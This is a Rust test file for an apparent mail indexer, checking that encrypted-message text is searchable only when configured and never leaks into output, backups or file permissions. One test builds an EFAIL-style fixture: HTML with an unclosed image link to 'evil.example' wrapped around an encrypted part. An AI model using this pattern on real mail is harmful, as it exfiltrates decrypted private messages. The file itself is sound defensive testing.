//! Tests that the text of encrypted messages is searched if the configuration says so, and only then.
//!
//! Input: messages that gpg and gpgsm encrypted, configurations. Output: what queries find, what is told,
//! which programs ran and how. Does not depend on how the programs are run.

use crate::protected::{ANA, Keys, encrypted, message, multipart};
use crate::support::{Run, run};
use std::fs::{self, Permissions};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;

/// A decrypted content, of which no word stands outside.
const SECRET: &str = "Content-Type: multipart/mixed; boundary=s; protected-headers=\"v1\"\n\
    Subject: inner lantern\n\n--s\nContent-Type: text/html\n\n<p>hush words</p>\n\
    --s\nContent-Type: application/pdf; name=blueprint.pdf\n\nx\n--s--\n";
const DECRYPT: &str = "[index]\ndecrypt = true\n";

fn inline(keys: &Keys, text: &str) -> String {
    let arguments = ["--armor", "--trust-model", "always", "-r", "ana@example.org", "--encrypt"];
    keys.gpg(&arguments, text.as_bytes())
}

fn put(keys: &Keys, number: u32, body: &str) {
    let message = message(body).replace("<1@x>", &format!("<{number}@x>"));
    keys.home.deliver("", &format!("{number}:2,S"), message.as_bytes());
}

/// Puts programs before the user's own that write down how they are run, and then run these.
fn watched(keys: &Keys, meanwhile: &str) -> (PathBuf, PathBuf) {
    let (directory, log) = (keys.home.path().join("bin"), keys.home.path().join("log"));
    fs::create_dir_all(&directory).unwrap();
    for program in ["gpg", "gpgsm"] {
        let path = directory.join(program);
        let script = format!(
            "#!/bin/sh\necho {program} \"$@\" >> '{}'\n{meanwhile}\nexec /usr/bin/{program} \"$@\"\n",
            log.display()
        );
        // A process of its own writes it: a descriptor that another thread's child inherited here would keep
        // it from being run.
        let mut write = Command::new("sh");
        write.args(["-c", "printf %s \"$1\" > \"$2\" && chmod 755 \"$2\"", "sh", &script]).arg(&path);
        assert!(write.status().unwrap().success());
    }
    (directory, log)
}

fn index(keys: &Keys, arguments: &[&str], programs: &Path) -> Run {
    let mut command = keys.home.command(arguments);
    command.env("PATH", format!("{}:/usr/bin:/bin", programs.display())).env("RESTIC_PASSWORD", "hidden");
    run(&mut command)
}

fn count(keys: &Keys, query: &str) -> usize {
    keys.home.subjects(query).len()
}

/// Checks that another user reads nothing in a directory.
fn nobody_else_reads(directory: PathBuf) {
    let mut directories = vec![directory];
    while let Some(directory) = directories.pop() {
        for entry in fs::read_dir(directory).unwrap() {
            let (path, kind) = entry.map(|entry| (entry.path(), entry.file_type().unwrap())).unwrap();
            let mode = fs::metadata(&path).unwrap().permissions().mode() & 0o7777;
            assert_eq!(mode, if kind.is_dir() { 0o700 } else { 0o600 }, "{}", path.display());
            directories.extend(kind.is_dir().then_some(path));
        }
    }
}

#[test]
fn without_a_word_of_the_configuration_nothing_is_decrypted() {
    let keys = Keys::new(ANA);
    let (programs, log) = watched(&keys, "");
    put(&keys, 1, &encrypted(&keys, SECRET, &[]));
    put(&keys, 2, &format!("\n{}", inline(&keys, "hush words\n")));
    for configuration in ["", "[index]\ndecrypt = false\n", "[attachments.filters]\n\"a/b\" = \"cat\"\n"] {
        keys.home.configure(configuration);
        let run = index(&keys, &["index", "--maildir", "Mail"], &programs);
        assert_eq!((run.code, run.err.as_str()), (Some(0), ""), "{run:?}");
        for word in ["hush", "lantern", "blueprint"] {
            assert_eq!(count(&keys, word), 0, "{word}");
        }
    }
    assert!(index(&keys, &["index", "--attachments"], &programs).out.ends_with("of 0 messages read\n"));
    assert!(!log.exists(), "neither program was run");
}

#[test]
fn decrypted_text_is_found_and_nowhere_else() {
    let keys = Keys::new(ANA);
    let home = &keys.home;
    let (programs, log) = watched(&keys, "test -z \"$RESTIC_PASSWORD\" || exit 1");
    put(&keys, 1, &encrypted(&keys, SECRET, &["--sign"]));
    put(&keys, 2, &format!("\nBefore\n\n{}", inline(&keys, "hush words\n")));
    put(&keys, 3, "\nThis says how to begin a pgp message, and hush.\n");
    home.first_index();
    home.configure(DECRYPT);
    // EFAIL: the secret is between pieces of HTML, and inside another secret.
    let before = "Content-Type: text/html\n\n<p>Hi</p><img src=\"https://evil.example/";
    let secret = encrypted(&keys, SECRET, &[]);
    put(&keys, 4, &multipart("mixed", &[before, &secret, "Content-Type: text/html\n\n\">"]));
    put(&keys, 5, &encrypted(&keys, &secret, &[]));
    let read = index(&keys, &["index"], &programs);
    assert_eq!((read.code, read.err.as_str()), (Some(0), ""), "{read:?}");
    assert!(read.out.ends_with("attachments of 4 messages read\n"), "{read:?}");
    let counts = |queries: &[&str]| queries.iter().map(|query| count(&keys, query)).collect::<Vec<_>>();
    assert_eq!(counts(&["hush", "\"hush words\"", "embed:hush", "lantern", "blueprint"]), [5, 4, 4, 3, 3]);
    assert_eq!(counts(&["subject:lantern", "file:blueprint", "subject:outer"]), [0, 0, 5]);
    let ran = fs::read_to_string(&log).unwrap();
    assert!(!ran.contains("gpgsm") && ran.matches("--decrypt").count() == 5, "{ran}");
    let is_quiet = |line: &str| {
        ["--batch --no-tty --disable-dirmngr", "--pinentry-mode cancel"]
            .iter()
            .all(|part| line.contains(part))
    };
    assert!(ran.lines().all(is_quiet) && !ran.contains("--verify"), "{ran}");
    // Each is read once, and nothing shows what is found.
    assert_eq!(home.good(&["index"]).lines().count(), 1);
    assert!(home.good(&["index", "--attachments"]).ends_with("attachments of 0 messages read\n"));
    for arguments in [
        &["find", "hush and not id:3@x"][..],
        &["find", "--format", "json", "hush and not id:3@x"],
        &["view", "id:1@x"],
        &["info"],
    ] {
        let shown = home.good(arguments);
        assert!(!["hush", "lantern", "blueprint"].iter().any(|word| shown.contains(word)), "{shown}");
    }
    nobody_else_reads(home.data());
    // A backup has the mail as it is on the disk.
    fs::write(home.path().join("password"), "p").unwrap();
    let archive = |arguments: &[&str]| {
        let mut command = home.command(&[&["archive"], arguments].concat());
        let place = home.path().join("repository");
        run(command.env("RESTIC_REPOSITORY", place).env("RESTIC_PASSWORD_FILE", home.path().join("password")))
    };
    for arguments in [&["init"][..], &["backup"], &["restore", "latest", "--target", "back"]] {
        assert_eq!(archive(arguments).code, Some(0), "{arguments:?}");
    }
    let listed = Command::new("find").args(["back", "-type", "f"]).current_dir(home.path()).output().unwrap();
    let restored = String::from_utf8(listed.stdout).unwrap();
    assert_eq!(restored.lines().filter(|path| path.contains("/cur/")).count(), 5, "{restored}");
    for path in restored.lines().filter(|path| !path.ends_with("/3:2,S")) {
        let bytes = fs::read(home.path().join(path)).unwrap();
        let text = String::from_utf8_lossy(&bytes);
        assert!(!["hush", "lantern", "blueprint"].iter().any(|word| text.contains(word)), "{path}");
    }
    // When it is not wanted any more, one command takes it away.
    home.configure("");
    home.good(&["index"]);
    assert_eq!(count(&keys, "hush"), 5);
    let away = home.pneu(&["check", "--repair"]);
    assert!(
        away.code == Some(0) && away.err.contains("leave out the text of encrypted messages"),
        "{away:?}"
    );
    assert_eq!(counts(&["hush", "lantern", "blueprint", "subject:outer"]), [1, 0, 0, 5]);
    assert_eq!(home.good(&["check", "--repair"]).lines().count(), 1, "there is nothing more to take away");
}

#[test]
fn nobody_is_asked_for_a_passphrase() {
    let keys = Keys::none();
    let home = &keys.home;
    let arguments = ["--passphrase", "sesame", "--quick-gen-key", ANA, "future-default", "default", "never"];
    keys.gpg(&arguments, b"");
    let asked = home.path().join("asked");
    let (programs, _) = watched(&keys, "");
    let pinentry = programs.join("pinentry");
    fs::write(&pinentry, format!("#!/bin/sh\necho x >> '{}'\nexit 1\n", asked.display())).unwrap();
    fs::set_permissions(&pinentry, Permissions::from_mode(0o755)).unwrap();
    let agent = format!("pinentry-program {}\n", pinentry.display());
    fs::write(home.path().join(".gnupg/gpg-agent.conf"), agent).unwrap();
    let forget =
        || assert!(keys.command("gpgconf").args(["--kill", "gpg-agent"]).status().unwrap().success());
    forget();
    home.configure(DECRYPT);
    put(&keys, 1, &encrypted(&keys, SECRET, &[]));
    let first = index(&keys, &["index", "--maildir", "Mail"], &programs);
    let sentence = "index.decrypt: gpg and gpgsm cannot decrypt 1 message now without asking; when they can, \
        \"pneu index --attachments\" reads what they left out";
    assert!(first.code == Some(3) && first.err.contains(sentence), "{first:?}");
    assert_eq!(first.err.lines().count(), 1, "{first:?}");
    assert_eq!((count(&keys, "hush"), count(&keys, "subject:outer")), (0, 1));
    assert_eq!(home.pneu(&["index"]).code, Some(0), "it is not tried by itself");
    assert_eq!(index(&keys, &["index", "--attachments"], &programs).code, Some(3));
    assert!(!asked.exists(), "somebody was asked");
    // The passphrase is known to the agent from here on.
    let known = message(&encrypted(&keys, "\nx\n", &[]));
    let data = &known[known.find("-----BEGIN").unwrap()..];
    keys.gpg(&["--passphrase", "sesame", "--decrypt"], data.as_bytes());
    let again = index(&keys, &["index", "--attachments"], &programs);
    assert!(again.code == Some(0) && again.out.ends_with("attachments of 1 message read\n"), "{again:?}");
    assert_eq!((count(&keys, "hush"), asked.exists()), (1, false));
    // Text that is there stays when it cannot be read again.
    forget();
    home.configure(&format!("{DECRYPT}[attachments.filters]\n\"application/octet-stream\" = \"cat\"\n"));
    assert_eq!(index(&keys, &["index"], &programs).code, Some(3));
    assert_eq!(count(&keys, "hush"), 1);
}

#[test]
fn a_part_whose_key_is_missing_is_tried_again_and_the_rest_is_found() {
    let (keys, other) = (Keys::new(ANA), Keys::new("Bo <bo@example.org>"));
    let arguments = ["--armor", "--trust-model", "always", "-r", "bo@example.org", "--encrypt"];
    let block = other.gpg(&arguments, b"belated words\n");
    put(&keys, 1, &multipart("mixed", &[&encrypted(&keys, SECRET, &[]), &format!("\n{block}")]));
    keys.home.configure(DECRYPT);
    let (programs, _) = watched(&keys, "");
    let counts = || ["hush", "belated", "subject:outer"].map(|word| count(&keys, word));
    let sentence = "index.decrypt: gpg and gpgsm can decrypt only a part of 1 message now without asking; \
        when they can decrypt all of it, \"pneu index --attachments\" reads the rest";
    for arguments in [&["index", "--maildir", "Mail"][..], &["index", "--attachments"]] {
        let run = index(&keys, arguments, &programs);
        assert!(run.code == Some(3) && run.err.contains(sentence) && run.err.lines().count() == 1, "{run:?}");
        assert_eq!(counts(), [1, 0, 1]);
    }
    assert_eq!(index(&keys, &["index"], &programs).code, Some(0), "it is not tried by itself");
    // The key comes.
    keys.gpg(&["--import"], other.gpg(&["--armor", "--export-secret-keys"], b"").as_bytes());
    let again = index(&keys, &["index", "--attachments"], &programs);
    assert!(again.code == Some(0) && again.out.ends_with("attachments of 1 message read\n"), "{again:?}");
    assert_eq!(counts(), [1, 1, 1]);
    let last = index(&keys, &["index", "--attachments"], &programs);
    assert!(last.code == Some(0) && last.out.ends_with("attachments of 0 messages read\n"), "{last:?}");
}

#[test]
fn text_of_smime_is_found() {
    let keys = Keys::with_certificate();
    let part = |kind: &str| {
        let arguments = ["-r", "ana@example.org", "--encrypt"];
        keys.smime(kind, &arguments, "Content-Type: text/plain\n\nhush words\n")
    };
    put(&keys, 1, &part("pkcs7-mime; smime-type=enveloped-data"));
    put(&keys, 2, &multipart("mixed", &["\nouter", &part("octet-stream; name=smime.p7m")]));
    put(&keys, 3, &keys.smime("x-pkcs7-mime", &["--sign"], "Content-Type: text/plain\n\nsigned words\n"));
    keys.home.configure(DECRYPT);
    let read = keys.home.first_index();
    assert!(read.ends_with("attachments of 2 messages read\n"), "{read}");
    assert_eq!(["hush", "signed", "words"].map(|word| count(&keys, word)), [2, 1, 3]);
}

#[test]
fn what_is_decrypted_has_limits() {
    let keys = Keys::new(ANA);
    let home = &keys.home;
    let seen = home.path().join("seen");
    // Decryption of the first one hangs.
    let hang = format!(
        "case \"$*\" in *--decrypt*) (ulimit -v; ulimit -t) >> '{0}'; test $(wc -l < '{0}') -gt 2 || \
         exec sleep 1000;; esac",
        seen.display()
    );
    let (programs, _) = watched(&keys, &hang);
    let limits = "[attachments]\ntime_seconds = 2\nmemory_mib = 700\ninput_mib = 1\ntext_mib = 1\n";
    home.configure(&format!("{DECRYPT}{limits}"));
    put(&keys, 1, &encrypted(&keys, SECRET, &[]));
    let slow = index(&keys, &["index", "--maildir", "Mail"], &programs);
    assert!(slow.code == Some(3) && slow.err.contains("cannot decrypt 1 message"), "{slow:?}");
    assert_eq!(fs::read_to_string(&seen).unwrap(), "716800\n2\n");
    assert_eq!(count(&keys, "hush"), 0);
    // Few bytes that decompress to many, a large message, and a text that is too long.
    let long = |count: usize| format!("Content-Type: text/plain\n\nhush\n{}", "word word\n".repeat(count));
    put(&keys, 2, &encrypted(&keys, &long(200_000), &[]));
    put(&keys, 3, &format!("{}\n{}", encrypted(&keys, SECRET, &[]), "word word\n".repeat(200_000)));
    let limits = limits.replace("text_mib", "# ");
    home.configure(&format!("{DECRYPT}{limits}").replace("time_seconds = 2\n", ""));
    let large = index(&keys, &["index"], &programs);
    let sentence = "index.decrypt: 2 messages too large to be decrypted (input_mib = 1)";
    assert!(large.code == Some(3) && large.err.contains(sentence), "{large:?}");
    assert_eq!((large.err.lines().count(), count(&keys, "hush")), (1, 0), "{large:?}");
    put(&keys, 4, &encrypted(&keys, &long(200_000), &[]));
    home.configure(&format!("{DECRYPT}[attachments]\ntext_mib = 1\n"));
    let cut = index(&keys, &["index"], &programs);
    let sentence =
        "index.decrypt: the text of 1 message is too long; its beginning is indexed (text_mib = 1)";
    assert!(cut.code == Some(3) && cut.err.contains(sentence), "{cut:?}");
    assert_eq!(count(&keys, "hush"), 1);
    assert_eq!(index(&keys, &["index", "--attachments"], &programs).code, Some(0), "what hung is read");
    assert_eq!(count(&keys, "hush"), 2);
}
